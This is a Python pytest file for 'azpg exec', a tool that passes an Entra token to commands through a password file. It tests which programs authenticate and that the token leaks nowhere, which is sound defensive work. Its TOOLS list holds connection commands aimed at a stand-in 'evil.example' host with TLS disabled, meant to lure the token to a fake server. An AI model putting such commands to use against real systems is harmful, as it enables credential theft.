"""Commands with a password file: which programs get the token and authenticate with it."""

from __future__ import annotations

import base64
import gc
import json
import os
import sys
from pathlib import Path
from types import FunctionType
from typing import TYPE_CHECKING, Any

import pytest
from fix_hostile import Hostile, ask_in_clear

import azpg
from azpg import _connect, _passfile
from azpg._passfile import PasswordKey

if TYPE_CHECKING:
    from collections.abc import Callable

    from fix_command import Command
    from fix_conninfo import Planned
    from fix_servers import Postgres

    from azpg.emulator import Emulator


def python(code: str) -> list[str]:
    """Return a command that runs some Python."""
    return ["--", sys.executable, "-c", code]


def test_the_token_is_only_in_the_password_file(
    azure15: Emulator, command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is in no variable, no argument and no other file while the command runs."""
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    code = f"""
import os, pathlib, re
token = re.search(rb"eyJ[\\w.-]+", pathlib.Path(os.environ["PGPASSFILE"]).read_bytes())[0]
places = [pathlib.Path("/proc/self", name) for name in ("environ", "cmdline")]
places += [path for path in pathlib.Path({str(tmp_path)!r}).rglob("*") if path.is_file()]
print(len(token) > 1000, [str(path) for path in places if token in path.read_bytes()])
"""
    ran = command("exec", "--server", "myserver", *python(code))
    assert ran.out == "True []\n", ran.err
    assert "eyJ" not in ran.err


TOOLS = [
    ["psql", "-Xwc", "select", "host={evil} sslmode=disable"],
    ["psql", "-Xwc", "select", "postgresql://myapp@evil.example/x?hostaddr={evil}&sslmode=disable"],
    ["env", "PGSSLMODE=disable", "pg_dump", "-w", "-h", "{evil}"],
    ["pg_dump", "-w", "-d", "host={host} hostaddr={evil} port={other} sslmode=disable"],
    ["env", "PGSSLMODE=disable", "PGHOSTADDR=", "pgbench", "-h", "{evil}", "-p", "{other}"],
    [sys.executable, "-c", "import psycopg; psycopg.connect('host={evil} sslmode=disable')"],
]


@pytest.mark.parametrize("words", TOOLS, ids=lambda words: words[0])
def test_a_command_cannot_send_the_token_elsewhere(
    azure15: Emulator, command: Command, hostile: Callable[..., Hostile], words: list[str]
) -> None:
    """A program that connects to another host or port does so without the token."""
    address = f"127.67.{os.getpid() >> 8 & 255}.{os.getpid() & 255 or 255}"
    servers = hostile(ask_in_clear, address, 5432), hostile(ask_in_clear, address)
    arguments = [
        word.format(evil=address, host=azure15.host, other=servers[1].port) for word in words
    ]
    ran = command("exec", "--server", "myserver", "--", "env", "PGHOSTADDR=", *arguments)
    assert servers[0].connections + servers[1].connections, ran.err
    assert b"eyJ" not in servers[0].clear + servers[1].clear


GRANDCHILD = (
    "import subprocess; subprocess.run(['psql', '-XAtc', 'select current_user'], check=True)"
)


@pytest.mark.parametrize(
    "words",
    [
        ["psql", "-XAtc", "select current_user"],
        [sys.executable, "-c", GRANDCHILD],
        ["bash", "-c", "exec 3</dev/null 4<&3 9<&3; psql -XAtc 'select current_user'; true"],
        ["setsid", "-w", "nohup", "psql", "-XAtc", "select current_user"],
        [
            sys.executable,
            "-c",
            "import psycopg; print(psycopg.connect().execute('select current_user').fetchone()[0])",
        ],
    ],
    ids=["psql", "closed descriptors", "descriptors of a script", "setsid", "psycopg"],
)
def test_a_command_and_its_children_authenticate(
    azure15: Emulator, command: Command, words: list[str]
) -> None:
    """The command's children can read the password file too, whatever they inherit."""
    assert command("exec", "--server", "myserver", "--", *words).out == "myapp\n"


def test_the_users_own_line_for_another_server(
    azure15: Emulator, command: Command, postgres: Postgres, tmp_path: Path
) -> None:
    """A command that connects to another server too finds the user's password for it."""
    path = tmp_path / "home" / ".pgpass"
    path.write_text(f"{postgres.host}:*:*:app:{postgres.password}\n")
    path.chmod(0o600)
    there = f"host={postgres.host} hostaddr={postgres.hostaddr} user=app dbname=postgres"
    there += f" sslrootcert={postgres.root}"
    both = f'psql -XAtc "select 1" && psql -XwAtc "select current_user" "{there}"'
    ran = command("exec", "--server", "myserver", "--", "sh", "-c", both)
    assert ran.out == "1\napp\n", ran.err


def test_asyncpg_reads_the_password_file(command: Command, postgres: Postgres) -> None:
    """A plain asyncpg finds the token, too."""
    code = """
import asyncio, asyncpg
async def main():
    conn = await asyncpg.connect(database="postgres")
    print(await conn.fetchval("select current_user"))
asyncio.run(main())
"""
    dsn = f"host={postgres.hostaddr} user=app sslmode=disable"
    ran = command("exec", dsn, *python(code), PGPASSWORD=postgres.password)
    assert ran.out == "app\n", ran.err


# azpg in the command


@pytest.fixture(scope="session")
def app(emulator15: Emulator) -> str:
    """Create a role with a password, and return the password."""
    emulator15.add_role("nightly", password="it's a \\ secret: *")
    return "it's a \\ secret: *"


INNER = """
import asyncio, logging, azpg, azpg.asyncpg, sqlalchemy
logging.disable()
who = "select current_user::text"

async def main():
    async with await azpg.connect_async() as conn:
        print((await (await conn.execute(who)).fetchone())[0])
    conn = await azpg.asyncpg.connect()
    print(await conn.fetchval(who))
    await conn.close()

asyncio.run(main())
with azpg.connect() as conn, azpg.create_pool(min_size=1) as pool, pool.connection() as pooled:
    print(*conn.execute(who).fetchone(), *pooled.execute(who).fetchone())
engine = sqlalchemy.create_engine("postgresql+azpg://")
print(engine.connect().scalar(sqlalchemy.text(who)))
with azpg.connect(user="myapp") as conn:
    print(*conn.execute(who).fetchone())
"""


def test_azpg_in_a_command_uses_its_password(azure15: Emulator, command: Command, app: str) -> None:
    """Every entry point finds a text password, and authenticates another user with Entra."""
    words = ("exec", "--server", "myserver", "--user", "nightly", "--dbname", "postgres")
    ran = command(*words, *python(INNER), PGPASSWORD=app)
    assert ran.out == "nightly\nnightly\nnightly nightly\nnightly\nmyapp\n", ran.err


def test_azpg_in_a_command_acquires_its_own_token(azure15: Emulator, command: Command) -> None:
    """There azpg does not use the command's token: it acquires one that it can refresh."""
    before = azure15.counts.tokens_issued
    code = "import azpg, os; print(azpg.connect().info.user, 'AZPG_PASSFILE' in os.environ)"
    assert command("exec", "--server", "myserver", *python(code)).out == "myapp False\n"
    assert azure15.counts.tokens_issued == before + 2


def test_commands_in_a_command(azure15: Emulator, command: Command, app: str) -> None:
    """`azpg exec` and `azpg psql` authenticate with the text password of an outer `azpg exec`."""
    azpg_ = f"{sys.executable} -m azpg"
    query = "-XAtc 'select current_user'"
    inner = (
        f"{azpg_} exec -- psql {query}; {azpg_} psql {query}; {azpg_} exec -- {azpg_} psql {query}"
    )
    words = ("exec", "--server", "myserver", "--user", "nightly", "--dbname", "postgres", "--")
    assert command(*words, "sh", "-c", inner, PGPASSWORD=app).out == "nightly\nnightly\nnightly\n"


HOST = "myserver.postgres.database.azure.com"


@pytest.fixture
def passfile_variables(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Set the variables of a command of `azpg exec` with a password for one host and user."""
    path = tmp_path / "passfile"
    own = b"*:*:*:*:mine\nother.postgres.database.azure.com:5432:*:app:mine\n"
    path.write_bytes(_passfile.format_passfile([PasswordKey(HOST, "5432", "app")], "s3cret", own))
    path.chmod(0o600)
    monkeypatch.setenv("PGPASSFILE", str(path))
    monkeypatch.setenv("AZPG_PASSFILE", str(path))
    return path


@pytest.mark.parametrize(
    ("said", "sign_in"),
    [
        ({}, "password"),
        ({"host": HOST, "server": None}, "password"),
        ({"host": "localhost"}, "password"),
        ({"hostaddr": "192.0.2.1"}, "password"),
        ({"user": "other"}, "entra"),
        ({"user": None}, "entra"),
        ({"port": 5433}, "entra"),
        ({"pgbouncer": True}, "entra"),
        ({"server": "other"}, "entra"),
        ({"client_id": "0"}, "entra"),
        ({"password": ""}, "none"),
        ({"passfile": "/mine"}, "none"),
        ({"password": str}, "callback"),
    ],
    ids=str,
)
def test_the_password_is_used_for_its_key_only(
    passfile_variables: Path, planned: Planned, said: dict[str, Any], sign_in: str
) -> None:
    """Elsewhere Entra is used as if there were no file; explicit arguments always win."""
    assert planned(**{"server": "myserver", "user": "app"} | said).auth == sign_in


@pytest.mark.parametrize(
    ("audience", "expected"),
    [("https://ossrdbms-aad.database.windows.net", "token"), ("https://management.azure.com", "")],
)
def test_a_token_given_as_a_password_is_a_token(
    passfile_variables: Path, planned: Planned, audience: str, expected: str
) -> None:
    """A token that `azpg exec` got as a password is sent only to hosts that may receive a token."""
    claims = {"aud": audience, "iss": "https://sts.windows.net/x/"}
    parts = [json.dumps(part).encode() for part in ({"alg": "none"}, claims)]
    token = (
        ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts) + ".c2ln"
    )
    passfile_variables.write_bytes(
        _passfile.format_passfile([PasswordKey(HOST, "5432", "app")], token, b"")
    )
    if expected:
        assert planned(server="myserver", user="app").auth == expected
        return
    with pytest.raises(azpg.ConfigError, match=r"token for management\.azure\.com"):
        planned(server="myserver", user="app")


@pytest.mark.parametrize("name", ["PGPASSFILE", "AZPG_PASSFILE"])
def test_another_password_file_is_ignored(
    passfile_variables: Path, planned: Planned, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """Only the file of `azpg exec` is used, which both variables name."""
    other = passfile_variables.with_name("other")
    other.write_bytes(passfile_variables.read_bytes())
    monkeypatch.setenv(name, str(other))
    assert planned(server="myserver", user="app").auth == "entra"
    monkeypatch.delenv(name)
    assert planned(server="myserver", user="app").auth == "entra"


def test_a_password_file_that_was_deleted(passfile_variables: Path) -> None:
    """A program that outlives its command gets an error that says why it has no password."""
    passfile_variables.unlink()
    with pytest.raises(azpg.ConfigError, match="azpg exec"):
        azpg.connect(server="myserver", user="app")


def test_the_password_is_not_cached(passfile_variables: Path) -> None:
    """It is read for each connection, as PGPASSWORD is."""
    assert "s3cret" not in azpg.conninfo(server="myserver", user="app")
    waiting: list[Any] = [_connect._cached_config, _connect._warn_once]
    seen: set[int] = set()
    while waiting:
        each = waiting.pop()
        if id(each) not in seen and not isinstance(each, type | FunctionType):
            seen.add(id(each))
            assert each != "s3cret"
            waiting += gc.get_referents(each)
